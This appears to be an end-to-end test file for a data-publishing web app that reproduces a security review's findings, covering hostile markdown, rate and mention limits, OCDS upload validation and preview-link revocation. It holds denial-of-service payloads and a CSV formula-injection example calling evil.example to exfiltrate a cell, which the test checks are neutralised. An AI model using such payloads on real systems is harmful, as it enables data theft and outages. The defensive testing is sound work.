import { describe, expect, it } from "vitest";

import { MAX_CHARTS } from "~/charts/render-chart.server";
import { db } from "~/db/client.server";
import { formValuesFromMeta } from "~/models/item-form";
import { NEW_ACCOUNT_POSTS_PER_HOUR } from "~/models/posting-limit.server";

import { createEstablishedUser } from "../factories/discussions";
import { buildItemMeta, createItem } from "../factories/items";
import { createUser, sessionCookieFor } from "../factories/users";
import { baseUrl, useBrowser } from "./support/browser";
import { mainHeading, navigate } from "./support/evidence";
import { signInAs } from "./support/session";

// The reproductions of issue 13's rendering and content items, over real HTTP against the
// production build (two server processes), as the outside review ran them.

const { openPage } = useBrowser();

function postForm(path: string, cookie: string, form: Record<string, string | string[]>) {
  const body = new URLSearchParams();
  for (const [name, value] of Object.entries(form)) for (const entry of [value].flat()) body.append(name, entry);
  return fetch(new URL(path, baseUrl()), {
    method: "POST",
    redirect: "manual",
    headers: { "Content-Type": "application/x-www-form-urlencoded", Origin: baseUrl(), Cookie: cookie },
    body,
  });
}

async function reply(itemSlug: string, cookie: string, text: string) {
  const response = await postForm(`/library/${itemSlug}`, cookie, { intent: "reply", body: text });
  return { status: response.status, html: await response.text() };
}

/** About 3 MB of payments: slow enough to parse that reading it once per spelling held the lock for seconds. */
function paymentsCsv() {
  const lines = ["Date,Supplier,Amount"];
  for (let row = 0; lines.length < 95_000; row += 1) {
    lines.push(
      `20${10 + (row % 12)}-${String(1 + (row % 12)).padStart(2, "0")}-01,Supplier ${row} Ltd,${(row * 37) % 99_991}`,
    );
  }
  return lines.join("\n");
}

const spellings = (name: string, count: number) =>
  Array.from({ length: count }, (_, index) =>
    [...name].map((letter, at) => ((index >> at) & 1 ? letter.toUpperCase() : letter)).join(""),
  );

/** A draft of the writer's own, titled so that saving it keeps its address. */
async function ownDraft(
  writerId: string,
  { type, name, body }: { type: "data-story" | "tip"; name: string; body: string },
) {
  const title = `${name} ${Date.now()}`;
  const meta = buildItemMeta({ type, status: "draft", title });
  const item = await createItem({ ...meta, slug: title.toLowerCase().replaceAll(" ", "-"), body });
  await db.updateTable("items").set({ created_by_user_id: writerId }).where("id", "=", item.id).execute();
  return { ...item, meta };
}

async function currentVersion(itemId: number) {
  const { version } = await db.selectFrom("items").select("version").where("id", "=", itemId).executeTakeFirstOrThrow();
  return String(version);
}

describe("chart blocks and the write lock (item 2)", () => {
  /** A writer's draft story with about 3 MB of payments attached as bigdata.csv. */
  async function storyWithBigDataset() {
    const writer = await createUser();
    const cookie = await sessionCookieFor(writer.id);
    const story = await ownDraft(writer.id, { type: "data-story", name: "Spellings", body: "Charts to come." });
    const upload = new FormData();
    upload.append("title", "Synthetic payments");
    upload.append("publisher", "Testshire County Council");
    upload.append("source_url", "https://example.org/payments");
    upload.append("licence", "Open Government Licence v3.0");
    upload.append("attribution", "Contains public sector information licensed under the Open Government Licence v3.0");
    upload.append("file", new Blob([paymentsCsv()], { type: "text/csv" }), "bigdata.csv");
    const attached = await fetch(new URL(`/library/${story.slug}/datasets`, baseUrl()), {
      method: "POST",
      redirect: "manual",
      headers: { Origin: baseUrl(), Cookie: cookie },
      body: upload,
    });
    expect(attached.status).toBe(302);
    const save = async (body: string) =>
      postForm(`/library/${story.slug}/edit`, cookie, {
        ...formValuesFromMeta(story.meta, body),
        version: await currentVersion(story.id),
        intent: "save-draft",
      });
    return { story, save };
  }

  /** `count` chart blocks, each naming bigdata.csv in a spelling of its own. */
  const chartBlocks = (count: number) =>
    spellings("bigdata.csv", count)
      .map(
        (name, index) =>
          `\`\`\`chart\nkind: bar\ntitle: Payments ${index + 1}\ndataset: ${name}\nlabel: Supplier\nvalues: Amount\nlimit: 10\n\`\`\``,
      )
      .join("\n\n");

  it(`saves a story whose ${MAX_CHARTS} charts name one big dataset in as many spellings while others' replies go through`, async () => {
    const { story, save } = await storyWithBigDataset();
    const saving = save(chartBlocks(MAX_CHARTS));
    const discussed = await createItem({ type: "tip", slug: `discussed-while-saving-${Date.now()}` });
    const replier = await createEstablishedUser();
    const replierCookie = await sessionCookieFor(replier.id);
    let isSaved = false;
    void saving.then(() => (isSaved = true));
    const replyStatuses: number[] = [];
    // Replies from another member, reaching both server processes, while the story is saved. On
    // main the save parsed the dataset once per spelling inside the write lock, and the other
    // process's replies gave up waiting for it with a 500.
    while (!isSaved || replyStatuses.length < 4) {
      replyStatuses.push((await reply(discussed.slug, replierCookie, `Reply ${replyStatuses.length}`)).status);
    }
    expect(replyStatuses.join(", ")).toBe(replyStatuses.map(() => 303).join(", "));

    const saved = await saving;
    expect(saved.status).toBe(302);
    expect(saved.headers.get("Location")).toBe(`/library/${story.slug}/edit?done=draft`);
    const { body_html } = await db
      .selectFrom("items")
      .select("body_html")
      .where("id", "=", story.id)
      .executeTakeFirstOrThrow();
    expect(body_html.match(/<figure class="chart"/g)).toHaveLength(MAX_CHARTS);
    expect(body_html).not.toContain("chart-error");
  });

  it(`refuses a story with ${MAX_CHARTS + 1} charts, saying so and saving nothing`, async () => {
    const { story, save } = await storyWithBigDataset();
    const tooMany = await save(chartBlocks(MAX_CHARTS + 1));
    expect(tooMany.status).toBe(400);
    expect(await tooMany.text()).toContain(
      `The body has ${MAX_CHARTS + 1} chart blocks, and a story can have at most ${MAX_CHARTS}.`,
    );
    const { body_markdown } = await db
      .selectFrom("items")
      .select("body_markdown")
      .where("id", "=", story.id)
      .executeTakeFirstOrThrow();
    expect(body_markdown).toBe("Charts to come.");
  });
});

describe("hostile markdown (item 3)", () => {
  it("keeps both server processes answering while the review's hostile bodies are previewed, and takes the hostile reply", async () => {
    const writer = await createEstablishedUser();
    const cookie = await sessionCookieFor(writer.id);
    const preview = (body: string) => postForm("/resources/item-preview", cookie, { body });
    const hostile = {
      starUnderscore: "*a_".repeat(6_666),
      stars: "*a".repeat(99_500),
      chartFences: "```chart\n".repeat(22_000),
      deepQuote: ">".repeat(199_000),
    };
    const previews = Promise.all([
      preview(hostile.starUnderscore),
      preview(hostile.starUnderscore),
      preview(hostile.stars),
      preview(hostile.chartFences),
      preview(hostile.deepQuote),
    ]);
    await new Promise((resolve) => setTimeout(resolve, 300));
    const started = performance.now();
    const health = await Promise.all([fetch(new URL("/healthz", baseUrl())), fetch(new URL("/healthz", baseUrl()))]);
    const waitedMs = performance.now() - started;
    expect(health.map((response) => response.status)).toEqual([200, 200]);
    // On main these held both processes for 8 to 34 s each (the 199,000-deep quote overflowed the
    // stack), so the probe waited that long; rendered in workers, they take well under a second.
    expect(waitedMs).toBeLessThan(3_000);
    const [first, second, stars, chartFences, deepQuote] = await Promise.all(
      (await previews).map(async (response) => ({
        status: response.status,
        ...((await response.json()) as { html: string }),
      })),
    );
    for (const answer of [first!, second!]) {
      expect(answer.status).toBe(200);
      expect(answer.html).toContain("*a_*a_");
    }
    expect(stars!.status).toBe(200);
    expect(stars!.html).toContain("*a*a*a");
    expect(chartFences!.status).toBe(200);
    expect(deepQuote!.status).toBe(200);
    expect(deepQuote!.html.split("<blockquote>")).toHaveLength(17);

    const item = await createItem({ type: "tip", slug: `hostile-reply-${Date.now()}` });
    expect((await reply(item.slug, cookie, hostile.starUnderscore)).status).toBe(303);
    const page = await fetch(new URL(`/library/${item.slug}`, baseUrl()));
    expect(page.status).toBe(200);
    expect(await page.text()).toContain("*a_*a_*a_");
  });
});

describe("mentions (item 10)", () => {
  it("refuses a reply that mentions eleven members, notifying none of them", async () => {
    const writer = await createEstablishedUser();
    const cookie = await sessionCookieFor(writer.id);
    const people = await Promise.all(Array.from({ length: 11 }, () => createEstablishedUser()));
    const item = await createItem({ type: "tip", slug: `many-mentions-${Date.now()}` });
    const { status, html } = await reply(item.slug, cookie, people.map((person) => `@${person.username}`).join(" "));
    expect(status).toBe(400);
    expect(html).toContain("You can mention at most 10 people in one post, and this one mentions 11.");
    const notified = await db
      .selectFrom("notifications")
      .select("id")
      .where("actor_user_id", "=", writer.id)
      .where("kind", "=", "mention")
      .execute();
    expect(notified).toEqual([]);
  });
});

describe("the posting limit (item 10)", () => {
  it("counts a new member's item saves, refusing the next save and reply with a message", async () => {
    const newcomer = await createUser();
    const cookie = await sessionCookieFor(newcomer.id);
    const draft = await ownDraft(newcomer.id, { type: "tip", name: "Busy newcomer", body: "Version 0." });
    const save = async (n: number) =>
      postForm(`/library/${draft.slug}/edit`, cookie, {
        ...formValuesFromMeta(draft.meta, `Version ${n}.`),
        version: await currentVersion(draft.id),
        intent: "save-draft",
      });
    for (let n = 1; n <= NEW_ACCOUNT_POSTS_PER_HOUR; n += 1) expect((await save(n)).status).toBe(302);

    const refused = await save(NEW_ACCOUNT_POSTS_PER_HOUR + 1);
    expect(refused.status).toBe(429);
    expect(await refused.text()).toContain(
      `New accounts can post ${NEW_ACCOUNT_POSTS_PER_HOUR} times an hour during their first day (replies, edits and items all count)`,
    );
    const item = await createItem({ type: "tip", slug: `newcomer-replies-${Date.now()}` });
    const refusedReply = await reply(item.slug, cookie, "One more thing.");
    expect(refusedReply.status).toBe(400);
    expect(refusedReply.html).toContain("replies, edits and items all count");
  });
});

describe("chart CSV downloads (item 11)", () => {
  it("neutralises formulas in the numbers behind a chart, keeping negative numbers", async () => {
    const slug = `formulas-${Date.now()}`;
    await createItem({
      type: "data-story",
      slug,
      body: [
        "```chart",
        "kind: line",
        "title: Changes",
        "label: Label",
        "values: Change",
        "csv: |",
        "  Label,Change",
        '  "=HYPERLINK(""https://evil.example/?x=""&A1,""Invoice"")",-12.5',
        "  @SUM(1+1),3",
        "```",
      ].join("\n"),
    });
    const response = await fetch(new URL(`/library/${slug}/charts/1.csv`, baseUrl()));
    expect(response.status).toBe(200);
    expect(await response.text()).toBe(
      `Label,Change\r\n"'=HYPERLINK(""https://evil.example/?x=""&A1,""Invoice"")",-12.5\r\n'@SUM(1+1),3\r\n`,
    );
  });
});

describe("OCDS uploads (item 12)", () => {
  async function uploadJson(slug: string, cookie: string, name: string, json: string) {
    const form = new FormData();
    form.append("title", "Awards");
    form.append("publisher", "Testshire County Council");
    form.append("source_url", "https://example.org/awards");
    form.append("licence", "Open Government Licence v3.0");
    form.append("attribution", "Contains public sector information licensed under the Open Government Licence v3.0");
    form.append("file", new Blob([json], { type: "application/json" }), name);
    const response = await fetch(new URL(`/library/${slug}/datasets`, baseUrl()), {
      method: "POST",
      redirect: "manual",
      headers: { Origin: baseUrl(), Cookie: cookie },
      body: form,
    });
    return { status: response.status, html: await response.text() };
  }

  async function ownStory() {
    const writer = await createUser();
    const cookie = await sessionCookieFor(writer.id);
    const story = await createItem({ type: "data-story", slug: `ocds-upload-${Date.now()}`, body: "Words." });
    await db.updateTable("items").set({ created_by_user_id: writer.id }).where("id", "=", story.id).execute();
    return { story, cookie };
  }

  async function expectNothingStored(slug: string, itemId: number, fileName: string) {
    const download = await fetch(new URL(`/library/${slug}/datasets/${fileName}`, baseUrl()));
    await download.arrayBuffer();
    expect(download.status).toBe(404);
    expect(await db.selectFrom("datasets").select("id").where("item_id", "=", itemId).execute()).toEqual([]);
  }

  it("refuses a release that names parties twice, saying where, so the first copy's contact point is never stored", async () => {
    const { story, cookie } = await ownStory();
    const twice = `{"releases":[{"ocid":"ocds-x-1","id":"1","parties":[{"id":"b","name":"Council","contactPoint":{"email":"officer@council.example"}}],"parties":[{"id":"b","name":"Council"}]}]}`;
    const duplicate = await uploadJson(story.slug, cookie, "twice.json", twice);
    expect(duplicate.status).toBe(400);
    expect(duplicate.html).toContain("twice.json, line 1: releases[0] has &quot;parties&quot; twice");
    await expectNothingStored(story.slug, story.id, "twice.json");
  });

  it("answers JSON nested 10,000 deep with a 400 and a message, not a 500", async () => {
    const { story, cookie } = await ownStory();
    const deep = `{"releases":[{"ocid":"ocds-x-1","extra":${"[".repeat(10_000)}${"]".repeat(10_000)}}]}`;
    const nested = await uploadJson(story.slug, cookie, "deep.json", deep);
    expect(nested.status).toBe(400);
    expect(nested.html).toContain("deep.json nests lists and objects more than 64 deep");
    await expectNothingStored(story.slug, story.id, "deep.json");
  });
});

describe("private preview links (item 13)", () => {
  it("stops the old link working after publish and unpublish, and resets it without JavaScript", async () => {
    const page = await openPage({ javaScriptEnabled: false });
    const writer = await signInAs(page);
    const slug = `shared-draft-${Date.now()}`;
    const story = await createItem({ type: "tip", status: "draft", slug, title: `Shared draft ${Date.now()}` });
    await db
      .updateTable("items")
      .set({ created_by_user_id: writer.id, preview_token: "first-link-0123456789" })
      .where("id", "=", story.id)
      .execute();
    const previewStatus = async (link: string) => {
      const response = await fetch(link, { redirect: "manual" });
      await response.arrayBuffer();
      return response.status;
    };
    const shared = `${baseUrl()}/preview/first-link-0123456789`;
    expect(await previewStatus(shared)).toBe(200);

    const cookie = await sessionCookieFor(writer.id);
    const edit = `/library/${slug}/edit`;
    expect((await postForm(edit, cookie, { intent: "publish-now" })).status).toBe(302);
    expect((await postForm(edit, cookie, { intent: "unpublish" })).status).toBe(302);
    expect(await previewStatus(shared)).toBe(404);

    await navigate(page, edit, mainHeading(page, `Edit: ${story.meta.title}`));
    const current = await page.locator(".editor__share a").getAttribute("href");
    expect(current).not.toBe(shared);
    expect(await previewStatus(current!)).toBe(200);
    await navigate(
      page,
      () => page.getByRole("button", { name: "Reset the private link" }).click(),
      page.getByText("Made a new private link. The old one no longer works"),
      { url: `${edit}?done=link-reset` },
    );
    const reset = await page.locator(".editor__share a").getAttribute("href");
    expect(reset).not.toBe(current);
    expect(await previewStatus(current!)).toBe(404);
    expect(await previewStatus(reset!)).toBe(200);
  });
});
